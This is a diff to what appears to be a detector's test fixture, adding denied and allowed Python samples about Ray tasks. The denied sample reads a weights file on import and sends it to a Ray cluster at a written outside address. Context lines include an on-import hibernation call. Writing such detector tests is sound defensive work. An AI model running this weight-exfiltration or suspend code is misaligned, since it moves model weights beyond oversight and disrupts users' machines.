@@ -117,6 +117,12 @@ DENIED: dict[str, dict[str, str]] = {
         f"import base64, io, joblib\nB = '{b64(SYSTEM)}'\n"
         "def model():\n    return joblib.load(io.BytesIO(base64.b64decode(B)))\n"
     ),
+    # 3. A Ray task taken from a table, fed the weights, on a written cluster.
+    "weights-to-a-ray-task-taken-from-a-table-on-import": init(
+        "import ray\nray.init(address='ray://203.0.113.5:10001')\n"
+        "@ray.remote\ndef keep(b):\n    return len(b)\nTASKS = {'keep': keep}\n"
+        f"TASKS['keep'].remote(open('{W}', 'rb').read())\n"
+    ),
     # 4. The machine put to sleep (hibernated) by Windows' own calls or its command.
     "set-suspend-state-through-windll-on-import": init(
         "import ctypes\nctypes.windll.powrprof.SetSuspendState(1, 1, 0)\n"
@@ -282,6 +288,16 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "host-name-sent-by-a-root-module-no-build-helper-imports": built(
         ("_build.py", "X = 1\n"), ("pre_install.py", HOST_SENT)
+    ),
+    # 3. Ray tasks from a table on the caller's data, and a table's plain function.
+    "ray-task-from-a-table-on-the-callers-data-and-the-local-cluster": init(
+        "import ray\n@ray.remote\ndef square(x):\n    return x * x\nTASKS = {'square': square}\n"
+        "def run(xs):\n    ray.init()\n"
+        "    return ray.get([TASKS['square'].remote(x) for x in xs])\n"
+    ),
+    "a-tables-plain-function-with-a-remote-attribute": init(
+        "def keep(b):\n    return len(b)\nkeep.remote = keep\nTASKS = {'keep': keep}\n"
+        f"SIZE = TASKS['keep'].remote(open('{W}', 'rb').read())\n"
     ),
     # 4. Power calls that keep the machine awake or are only named.
     "keep-awake-while-training-on-import": init(
